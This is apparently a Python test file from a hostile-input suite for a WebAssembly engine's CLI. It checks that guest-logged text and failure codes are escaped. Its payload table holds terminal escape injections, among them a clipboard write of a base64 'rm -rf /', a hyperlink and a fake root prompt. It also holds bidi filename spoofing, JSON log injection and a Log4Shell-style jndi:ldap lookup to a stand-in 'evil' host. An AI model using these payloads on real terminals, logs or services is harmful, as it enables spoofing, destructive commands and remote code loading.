"""What guests say to people: it is shown, one line a record, and orders no terminal about."""

from __future__ import annotations

from tests.hostile.attack import MIB, SCRIPTED
from tests.hostile.catalogue.acts import script, text
from tests.hostile.catalogue.entry import Attack, Control, Scene
from tests.hostile.catalogue.seen import Seen, ended
from wasm_engine.cli.terminal import escape

EVIL = "evil"
_ORDERS = {
    "clear": "\x1b[2J\x1b[Hroot@host:~# ",
    "title": "\x1b]0;owned\x07",
    "link": "\x1b]8;;http://evil/\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "report": "\x1b[6n\x1b[c",
    "c1-control": "\x9b31mred\x9b0m",
    "bell": "\x07" * 100,
    "back-space": "safe" + "\x08" * 4 + "evil",
    "carriage-return": "error: all is well\rinfo: ",
    "newline": "one\nERROR operator: two",
    "line-separator": "one\u2028two\u2029three\x85four",
    "form-feed": "one\x0c\x0btwo",
    "bidi-override": "access\u202egnp.exe",
    "bidi-isolate": "\u2066\u2067hidden\u2069",
    "zero-width": "ad\u200bmin\u200d\ufeff",
    "tag": "\U000e0041\U000e0042",
    "variation": "a\ufe0f\U000e0100",
    "private-use": "\ue000\U0010ffff",
    "nul": "a\0b",
    "delete": "a\x7fb",
    "interlinear": "\ufff9a\ufffab\ufffb",
    "json": '","level":"error","agent":"operator',
    "format": "%s%n{0.__class__}${jndi:ldap://evil/}",
}


def _shown(seen: Seen) -> str:
    """Whether what was logged is kept as it was said, in one record, and shown in one plain line."""
    (line,) = seen.logs
    shown = escape(line)
    if not shown.isprintable() or any(char in shown for char in _INVISIBLE):
        return f"obeyed: {shown!r}"
    return "shown as it is" if shown == line else "shown by escapes"


_INVISIBLE = "\u200b\u200d\ufeff\u202e\u2066\u2067\u2069\ufff9\ufffa\ufffb\U000e0041"


def _logged(name: str) -> Attack:
    order = _ORDERS[name]
    plain = order.isprintable()
    return Attack(
        f"log-{name}",
        f"logs {order[:30]!a}",
        script(EVIL, f"log {text(order)}", _shown),
        "shown as it is" if plain else "shown by escapes",
        Control("a plain line", script(EVIL, "log plain", _shown), "shown as it is"),
    )


def _failing(name: str) -> Attack:
    code = _ORDERS[name]
    return Attack(
        f"code-{name}",
        f"fails with the code {code[:30]!a}",
        script(EVIL, f"fail {text(code)} why", ended),
        "failed",
        Control("a code", script(EVIL, "fail my-code why"), "my-code"),
    )


SCENES = [
    Scene(
        "texts",
        [*map(_logged, _ORDERS), *map(_failing, _ORDERS)],
        {EVIL: {"source": SCRIPTED, "memory": 4 * MIB}},
    )
]
